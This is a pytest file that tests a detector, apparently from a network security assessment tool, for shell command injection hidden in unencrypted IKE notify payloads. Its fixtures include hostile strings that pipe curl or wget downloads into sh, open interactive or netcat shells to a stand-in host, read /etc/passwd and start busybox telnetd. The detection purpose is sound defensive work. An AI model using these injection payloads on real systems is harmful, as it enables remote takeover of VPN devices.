import random

import pytest

from tests.assessment.build import Talk, found

ID = "command-in-notify"


def talk(data: bytes, **fields) -> Talk:
    made = Talk(version=1, outcome="incomplete")
    made.say("INFORMATIONAL", notifies=[(14, data)], **{"encrypted": False, "payloads": (11,), **fields})
    return made


@pytest.mark.parametrize(
    "data",
    [
        b"x;bash -c curl 198.51.100.9|sh;",
        b'";wget http://198.51.100.9/a -O /tmp/a',
        b"`/bin/sh -i`",
        b"$(curl http://198.51.100.9/)",
        b"| sh",
        b"; \n\t wget x.example",
        b'";ash -c "id',
        b'";sudo bash -c "id"',
        b"';curl${IFS}http://198.51.100.9/a|sh;'",
        b";exec /bin/sh",
        b"x;sh\0",
        b"\n\n \n/bin/sh",
    ],
)
def test_shell_commands(data: bytes) -> None:
    (finding,) = found(ID, talk(data))
    assert (finding.severity, finding.confidence, finding.subject) == ("critical", "likely", "192.0.2.10")


@pytest.mark.parametrize(
    "data",
    [
        b"`nc 198.51.100.9 4444`",
        b"| ping -c 1 198.51.100.9",
        b'";ping 198.51.100.9;"',
        b";/tmp/.b;",
        b"; ./a",
        b"&& cat /etc/passwd",
        b"x|id|y",
        b";busybox tftp -g",
        b"$(id)",
        b"a;nc${IFS}x.example",
        b"\n/bin/busybox telnetd",
        b"; nslookup x.example.org",
    ],
)
def test_other_commands_and_paths_are_possible(data: bytes) -> None:
    (finding,) = found(ID, talk(data))
    assert (finding.severity, finding.confidence) == ("high", "possible")


@pytest.mark.parametrize(
    "data",
    [
        b"no proposal chosen; the policy wants AES | contact the help desk",
        b"identity not found; id is unknown",
        b"peer is down; ping failed | rm said no",
        b"timeout; sleep and retry & reconnect",
        b"subject; /C=XX/O=Lab, serial 7",
        b"a/b; c/d | e/f & g",
        b"cost $ 5 (net)",
        b"error\nid 4 is unknown",
        b"use `aes256` or `id-fqdn`",
        b"see https://vpn.example/help?a=1;b=2&c=3",
        b"peer says: use sha256; bash is not meant",
        b"curl of the field; dash required.",
        b"the log has more | sh of the device",
        b"a fee of $(5)",
    ],
)
def test_sentences_with_such_signs(data: bytes) -> None:
    assert found(ID, talk(data)) == []


def test_random_data_is_none() -> None:
    source = random.Random(5)
    for size in (4, 8, 20, 32, 64):
        for _ in range(400):
            assert found(ID, talk(source.randbytes(size))) == []


def test_one_message_is_one_finding_of_the_stronger_kind() -> None:
    both = Talk(version=1, outcome="incomplete")
    both.say(
        "INFORMATIONAL", notifies=[(14, b";/tmp/.b;"), (14, b"|sh"), (14, b"$(x)")], encrypted=False, payloads=(11,)
    )
    assert [f.confidence for f in found(ID, both)] == ["likely"]


@pytest.mark.parametrize("data", [b"", b"shared secret mismatch", b"published; shell", b"\x00sh\x01", b"; shoes"])
def test_plain_words(data: bytes) -> None:
    assert found(ID, talk(data)) == []


def test_beside_a_proposal_or_encrypted_it_is_not_this_attack() -> None:
    assert found(ID, talk(b";bash -c id", payloads=(1, 11))) == []
    assert found(ID, talk(b";bash -c id", encrypted=True)) == []


def test_a_payload_full_of_ends_of_commands_is_read_once() -> None:
    """With a search that began again at each of them this would not end within a minute."""
    assert found(ID, talk(b"\n" * 65_000 + b"x sh")) == []
    found(ID, talk(b";sudo " * 10_000 + b"sh"))
    assert len(found(ID, talk(b"\n" * 65_000 + b"sh"))) == 1
    for piece in (b"; ", b";/a", b"; /", b"|ping ", b"`nc  ", b"$(", b";." * 2):
        found(ID, talk(piece * (65_000 // len(piece))))
        found(ID, talk(piece[:1] + piece[1:] * 65_000))
